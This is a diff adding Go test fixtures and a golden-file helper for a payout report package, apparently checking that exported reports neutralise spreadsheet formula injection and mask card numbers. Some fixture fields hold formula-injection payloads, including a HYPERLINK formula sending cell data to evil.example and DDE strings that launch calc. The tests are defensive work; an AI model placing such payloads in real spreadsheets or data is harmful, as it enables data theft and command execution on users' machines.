@@ -1,0 +1,144 @@
+package report
+
+import (
+	"bytes"
+	"flag"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/acme/payout/internal/money"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files in testdata/")
+
+// golden compares got with testdata/name, or rewrites the file with -update.
+func golden(t *testing.T, name string, got []byte) {
+	t.Helper()
+	path := filepath.Join("testdata", name)
+	if *update {
+		if err := os.MkdirAll("testdata", 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test -update to create it)", err)
+	}
+	if bytes.Equal(got, want) {
+		return
+	}
+	gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
+	for i := 0; i < max(len(gl), len(wl)); i++ {
+		var g, w string
+		if i < len(gl) {
+			g = gl[i]
+		}
+		if i < len(wl) {
+			w = wl[i]
+		}
+		if g != w {
+			t.Fatalf("%s differs at line %d:\n got: %q\nwant: %q\n(run go test -update if the change is intended)", path, i+1, g, w)
+		}
+	}
+	t.Fatalf("%s differs", path)
+}
+
+var (
+	loadedAt = time.Date(2026, 1, 15, 9, 30, 0, 0, time.UTC)
+	// A time in another zone: reports must write it in UTC.
+	updatedAt = time.Date(2026, 1, 15, 10, 45, 12, 500_000_000, time.FixedZone("CET", 3600))
+)
+
+func amt(s string) money.Amount {
+	a, err := money.Parse(s, 2)
+	if err != nil {
+		panic(err)
+	}
+	return a
+}
+
+// sumRows totals rows independently of the package: in integer cents.
+func sumRows(rows []Row) money.Amount {
+	var cents int64
+	for _, r := range rows {
+		cents += r.Amount.Minor(2)
+	}
+	return money.FromMinor(cents, 2)
+}
+
+func batchOf(id, file string, rows []Row) Batch {
+	return Batch{ID: id, File: file, LoadedAt: loadedAt, Rows: len(rows), Total: sumRows(rows), Scale: 2}
+}
+
+// mixedRows has rows in every state, cells that start with every dangerous
+// character, and full card numbers where none may appear.
+func mixedRows() []Row {
+	return []Row{
+		{Line: 2, ExternalID: "PAY-0001", Amount: amt("100.00"), Destination: "411111******1111", State: StateCreated,
+			PSPOrderID: "ord-81723", PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt},
+		{Line: 3, ExternalID: `=HYPERLINK("http://evil.example/?d="&A1,"click")`, Amount: amt("25.5"), Destination: "555555******4444",
+			State: StateRejected, Attempts: 1, Error: "amount exceeds daily limit", UpdatedAt: updatedAt},
+		{Line: 4, ExternalID: "PAY-0003", Amount: amt("7.25"), Destination: "400000******0002", State: StateNeedsReview,
+			Attempts: 3, Error: "+cmd|' /C calc'!A0", UpdatedAt: updatedAt},
+		{Line: 5, ExternalID: "PAY-0004", Amount: amt("0.01"), Destination: "411111******1111", State: StateChecking,
+			Attempts: 1, Error: "-1+1", UpdatedAt: updatedAt},
+		{Line: 6, ExternalID: "PAY-0005", Amount: amt("12"), Destination: "411111******1111", State: StateSubmitting,
+			Attempts: 1, Error: "@SUM(1+1)*cmd|' /C calc'!A0", UpdatedAt: updatedAt},
+		{Line: 7, ExternalID: "PAY-0006", Amount: amt("3.30"), Destination: "411111******1111", State: StateQueued,
+			Error: "\tleading tab"},
+		{Line: 8, ExternalID: "PAY-0007", Amount: amt("3.40"), Destination: "411111******1111", State: StateRejected,
+			Attempts: 1, Error: "\rleading carriage return", UpdatedAt: updatedAt},
+		{Line: 9, ExternalID: "PAY-0008", Amount: amt("50.00"), Destination: "411111******1111", State: StateRejected,
+			Attempts: 1, PSPStatus: "FAILED", Error: `{"error":"card 4111111111111111 is blocked","card":"4111 1111 1111 1111"}`, UpdatedAt: updatedAt},
+		{Line: 10, ExternalID: `INV "7", part 2`, Amount: amt("1.99"), Destination: "5555555555554444", State: StateCreated,
+			PSPOrderID: "-42", PSPStatus: "PROCESSING", Attempts: 2, UpdatedAt: updatedAt},
+		{Line: 11, ExternalID: "'already quoted", Amount: amt("1234.56"), Destination: "411111******1111", State: StateCreated,
+			PSPOrderID: "ord-81724", PSPStatus: "SUCCESS", Attempts: 1, Error: "note: a=b+c, <ok> & done", UpdatedAt: updatedAt},
+		{Line: 12, ExternalID: "Zahlung Müller 2026-01", Amount: amt("0.10"), Destination: "411111******1111", State: StateCreated,
+			PSPOrderID: "202601150000123456", PSPStatus: "SUCCESS", Attempts: 1, Error: "line one\nline two", UpdatedAt: updatedAt},
+	}
+}
+
+// centsRows are amounts whose float64 sum is inexact.
+func centsRows() []Row {
+	var rows []Row
+	for i := range 30 {
+		a := "0.10"
+		if i%2 == 1 {
+			a = "0.20"
+		}
+		rows = append(rows, Row{Line: i + 2, ExternalID: "C-" + string(rune('A'+i%26)) + string(rune('0'+i/26)),
+			Amount: amt(a), Destination: "411111******1111", State: StateCreated,
+			PSPOrderID: "ord-" + string(rune('a'+i%26)), PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt})
+	}
+	return rows
+}
+
+// mismatchRows are rows whose sum differs from the file total, with a row
+// missing.
+func mismatchRows() ([]Row, Batch) {
+	rows := []Row{
+		{Line: 2, ExternalID: "M-1", Amount: amt("40.00"), Destination: "411111******1111", State: StateCreated, PSPOrderID: "o1", PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt},
+		{Line: 3, ExternalID: "M-2", Amount: amt("29.70"), Destination: "411111******1111", State: StateRejected, Attempts: 1, Error: "invalid card", UpdatedAt: updatedAt},
+		{Line: 5, ExternalID: "M-4", Amount: amt("30.00"), Destination: "411111******1111", State: StateCreated, PSPOrderID: "o4", PSPStatus: "SUCCESS", Attempts: 1, UpdatedAt: updatedAt},
+	}
+	b := Batch{ID: "b-mismatch", File: "mismatch.csv", LoadedAt: loadedAt, Rows: 4, Total: amt("100.00"), Scale: 2}
+	return rows, b
+}
+
+func errorRows() []ErrorRow {
+	return []ErrorRow{
+		{File: "payouts.csv", Line: 0, Column: "", Message: "missing column amount"},
+		{File: "payouts.csv", Line: 5, Column: "amount", Message: `amount "1,000.00": use '.' as the decimal separator and no thousands separator`},
+		{File: "payouts.csv", Line: 7, Column: "destination", Message: "card number 4111111111111112 fails the Luhn check (mistyped digit?)"},
+		{File: "payouts.csv", Line: 9, Column: "externalId", Message: `=HYPERLINK("http://evil.example") is a duplicate of line 3`},
+		{File: "-payouts.csv", Line: 11, Column: "amount", Message: "@SUM(A1:A9) is not a plain decimal number"},
+	}
+}
